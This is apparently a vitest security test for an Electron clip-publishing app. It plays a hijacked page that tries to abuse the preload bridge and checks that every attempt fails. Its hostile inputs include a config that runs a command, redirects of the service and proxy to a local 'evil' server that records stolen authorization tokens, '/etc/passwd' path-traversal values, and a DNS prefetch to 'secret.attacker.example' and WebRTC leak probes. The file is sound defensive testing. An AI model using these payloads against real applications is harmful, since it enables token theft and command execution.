// A page that was taken over, in the packaged app: it asks every channel for everything it could do
// harm with, while the owner declines whatever the system asks. Nothing runs, no token leaves, no
// file goes, nothing is sent elsewhere.
import { spawn } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { type Simulator, startSimulator } from '../../main/simulator/start-simulator.ts';
import { requests } from '../../preload/contract.ts';
import { appUnderTest } from '../setup/app-under-test.ts';
import { agreeBeforehand } from '../support/agreed.ts';
import { newBase, questionsAsked, type RunningApp, record, startIn } from './running-app.ts';

let running: RunningApp;
let simulator: Simulator;
let evil: Server;
/** Authorization headers that arrived where none may. */
const stolen: string[] = [];
/** The file a program of the page's choice would make. */
let ran = '';

const token = 'XBL3.0 x=owner;the-token-of-the-owner';

beforeAll(async () => {
  simulator = await startSimulator({ settings: { stepMs: 10 } });
  evil = createServer((request, response) => {
    stolen.push(`${request.method} ${request.headers.authorization ?? ''}`);
    response.end('{}');
  });
  await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
  const base = newBase();
  const home = join(base, 'home');
  mkdirSync(home);
  ran = join(base, 'a-program-ran');
  const config = {
    dataDir: 'queue',
    service: { metadataUrl: simulator.metadataUrl, transferHosts: [simulator.transferHost] },
    account: { scid: simulator.scid, authorization: { env: 'TEST_AUTHORIZATION' } },
    folders: [{ path: join(base, 'captures'), defaults: { greatestMomentId: '123abc' } }],
    settle: { quietMs: 100 },
  };
  writeFileSync(join(home, 'config.json'), JSON.stringify(config));
  await agreeBeforehand(home, config);
  const env = { TEST_AUTHORIZATION: simulator.authorization, OWNERS_SECRET: token };
  running = await startIn(base, { env });
  record(running, 'plain.mp4', 'Match.mp4');
  await running.page.getByRole('heading', { level: 1, name: 'Every clip is published' }).waitFor();
  // From here on the owner declines.
  await running.app.evaluate(({ dialog }) => {
    const { asked } = globalThis as unknown as { asked: string[] };
    dialog.showMessageBox = async (...given: unknown[]) => {
      asked.push((given.at(-1) as { detail: string }).detail);
      return { response: 0, checkboxChecked: false };
    };
    dialog.showOpenDialog = async () => ({ canceled: true, filePaths: [] });
    dialog.showSaveDialog = async () => ({ canceled: true, filePath: '' });
  });
});
afterAll(async () => {
  await running.end();
  await simulator.close();
  evil.close();
});

/**
 * Calls a request of the bridge as hostile code in the page would; answers with what came, or with
 * the refusal.
 */
function ask(name: string, input?: unknown): Promise<unknown> {
  return running.page.evaluate(
    async ([request, given]) => {
      const { clipslot } = window as unknown as {
        clipslot: Record<string, (input?: unknown) => Promise<unknown>>;
      };
      return clipslot[request]?.(given ?? undefined).catch((error: Error) => `refused: ${error.message}`);
    },
    [name, input ?? null] as const,
  );
}

interface Draft {
  service: Record<string, unknown>;
  afterPublished: Record<string, unknown>;
  folders: unknown[];
}

async function draft(): Promise<Draft> {
  return (structuredClone(await ask('getSettings')) as { saved: Draft }).saved;
}

const evilUrl = () => `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
const configText = () => readFileSync(join(running.home, 'config.json'), 'utf8');

/**
 * Every change of the settings that only the owner may decide, as a page would write it into the
 * draft.
 */
const hostileChanges: readonly (readonly [what: string, change: (one: Draft) => unknown])[] = [
  ['a program', (one) => (one.service.authorization = { from: 'command', command: ['touch', ran] })],
  ['a variable', (one) => (one.service.authorization = { from: 'env', name: 'OWNERS_SECRET' })],
  ['another service', (one) => (one.service.metadataUrl = evilUrl())],
  ['another host for bits', (one) => (one.service.transferHosts = [new URL(evilUrl()).host])],
  ['a proxy', (one) => (one.service.proxy = evilUrl())],
  ['another account', (one) => (one.service.scid = 'another-account')],
  ['the bin', (one) => (one.afterPublished = { do: 'bin', folderId: null, afterDays: 1 })],
  ['a file of certificates by a made-up id', (one) => (one.service.certificates = 'folder-0')],
  [
    'a folder to move to by a made-up id',
    (one) => (one.afterPublished = { do: 'move', folderId: 'folder-7', afterDays: 0 }),
  ],
];

test.each(hostileChanges)('%s is not taken on the word of the page', async (_what, change) => {
  const before = configText();
  const changed = await draft();
  change(changed);
  const saved = await ask('saveSettings', { draft: changed, authorization: null, otherService: true });
  expect(saved).toMatchObject({ ok: false });
  expect(configText()).toBe(before);
  await ask('testConnection', { service: changed.service, authorization: null });
  expect(existsSync(ran)).toBe(false);
  expect(stolen).toEqual([]);
});

test('another sign-in is asked about, and declined nothing changes', async () => {
  const before = (await questionsAsked(running.app)).length;
  expect(await ask('renewAuthorization', { authorization: 'XBL3.0 x=attacker;token' })).toMatchObject({
    ok: false,
  });
  expect((await questionsAsked(running.app)).length).toBe(before + 1);
});

test('every channel, called with everything odd, deletes nothing and sends nothing elsewhere', async () => {
  const odd: readonly unknown[] = [
    undefined,
    null,
    '',
    0,
    -1,
    [],
    {},
    '__proto__',
    { clipId: '../../etc/passwd' },
    { clipId: '' },
    { folderId: '../..' },
    { index: 0 },
    { environment: 'production' },
    { name: 'bad-evening' },
    { clipIds: ['x'], action: 'forget' },
    { clipIds: ['x'], action: 'cancel' },
    { authorization: token },
    { path: '/etc/passwd' },
    { url: 'file:///etc/passwd' },
    { clipId: 'x', wish: 'forget' },
  ];
  const files = () => existsSync(join(running.captures, 'Match.mp4'));
  // To end the app is what a key of its owner does too; nothing goes anywhere by it, and nothing could be asked after it.
  const asked = Object.keys(requests).filter((name) => name !== 'quit');
  for (const name of asked) for (const input of odd) await ask(name, input);
  expect(files()).toBe(true);
  expect(existsSync(ran)).toBe(false);
  expect(stolen).toEqual([]);
  expect(simulator.ledger().slots.filter((slot) => slot.deletedAt !== null)).toEqual([]);
});

test('peer connections and names that are looked up in advance reach no one', async () => {
  const packets: number[] = [];
  const listener = createSocket('udp4').on('message', (message) => packets.push(message.length));
  await new Promise<void>((resolve) => listener.bind(0, '127.0.0.1', resolve));
  const { port } = listener.address();
  const gathered = await running.page.evaluate(async (stunPort) => {
    const hint = document.createElement('link');
    hint.rel = 'dns-prefetch';
    hint.href = '//secret.attacker.example';
    document.head.append(hint);
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${stunPort}` }] });
    peer.createDataChannel('out');
    const ended = new Promise<void>((resolve) => {
      peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve();
    });
    await peer.setLocalDescription(await peer.createOffer());
    await ended;
    return peer.iceGatheringState;
  }, port);
  expect(gathered).toBe('complete');
  expect(packets).toEqual([]);
  listener.close();
});

test('10 a switch that opens the page to other programs is taken away at the start', async () => {
  const { executablePath, args } = appUnderTest();
  const home = join(newBase(), 'home');
  const child = spawn(executablePath, [...args, `--user-data-dir=${home}`, '--remote-debugging-port=0'], {
    stdio: ['ignore', 'ignore', 'pipe'],
  });
  let said = '';
  child.stderr.on('data', (piece) => {
    said += piece;
  });
  // It has started once its own folder has its log; a port would have been named before that.
  await expect.poll(() => existsSync(join(home, 'logs'))).toBe(true);
  await expect.poll(() => existsSync(join(home, 'Local State')) || said !== '').toBe(true);
  child.kill();
  await new Promise((resolve) => child.once('exit', resolve));
  expect(said).not.toContain('DevTools listening');
  expect(existsSync(join(home, 'DevToolsActivePort'))).toBe(false);
});
